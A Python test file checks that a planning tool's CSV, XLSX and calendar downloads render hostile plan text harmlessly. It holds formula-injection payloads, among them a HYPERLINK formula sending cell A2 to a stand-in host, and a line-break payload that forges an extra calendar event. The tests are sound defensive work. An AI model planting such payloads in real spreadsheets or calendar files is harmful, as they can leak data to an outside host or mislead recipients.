"""Hostile text in the downloads: a spreadsheet never runs a formula from the plan, a calendar file
never gets an event or a property from the plan's text."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from safety_support import dump_plan, example_data

from konverteringsplan.analysis import analyse
from konverteringsplan.io.load import load_plan_text
from konverteringsplan.pages.downloads import CSV, XLSX
from konverteringsplan.pages.render import render

FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A2,"klik")', "+1+1", "-2+3", "@SUM(1,1)"]


def rendered(data: dict):
    plan, _ = load_plan_text(dump_plan(data))
    return render(plan, analyse(plan))


@pytest.fixture(scope="module")
def with_formula_roles():
    data = example_data()
    for role, name in zip(data["roller"], FORMULAS):
        role["navn"] = name
    return rendered(data)


def test_the_csv_shows_formula_like_role_names_as_text(with_formula_roles):
    text = with_formula_roles.files[CSV].decode("utf-8-sig")
    first_cells = [row[0] for row in csv.reader(io.StringIO(text), delimiter=";") if row]
    shown = [name for name in FORMULAS if f"'{name}" in first_cells]  # roles with hours in the plan
    assert len(shown) >= 2
    for name in FORMULAS:
        assert name not in first_cells  # only with the apostrophe, which makes Excel treat it as text
    # every cell that starts the row begins with something Excel does not evaluate
    assert not [c for c in first_cells if c[:1] in "=+-@"]


def test_the_xlsx_stores_formula_like_role_names_as_text(with_formula_roles):
    from openpyxl import load_workbook

    data = with_formula_roles.files[XLSX]
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # no formula at all in the sheet
    ws = load_workbook(io.BytesIO(data)).active
    names = {ws.cell(row, 1).value for row in range(2, ws.max_row + 1)}
    assert len([name for name in FORMULAS if name in names]) >= 2  # exactly as typed, as text


def test_a_line_break_in_a_session_title_adds_no_event_or_property_to_the_calendar():
    data = example_data()
    sessions = data["undervisning"]["sessioner"]
    # a line feed (a carriage return is refused before this: a control character, tests/test_safety_channels.py)
    sessions[0]["titel"] = "Intro\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Falsk hold\nURL:http://example.invalid"
    output = rendered(data)
    calendars = {path: body for path, body in output.files.items() if path.endswith(".ics")}
    assert calendars, "the plan gives no calendar files"
    everything = b"".join(calendars.values()).decode("utf-8")
    combined = everything.replace("\r\n ", "")  # unfold folded lines
    assert "\r\nURL:http://example.invalid" not in combined
    assert "\r\nSUMMARY:Falsk hold" not in combined
    lines = output.files["downloads/undervisning.ics"].decode("utf-8").replace("\r\n ", "").split("\r\n")
    assert lines.count("BEGIN:VEVENT") == len(sessions)
    assert not [line for line in lines if line.startswith(("URL:", "SUMMARY:Falsk"))]
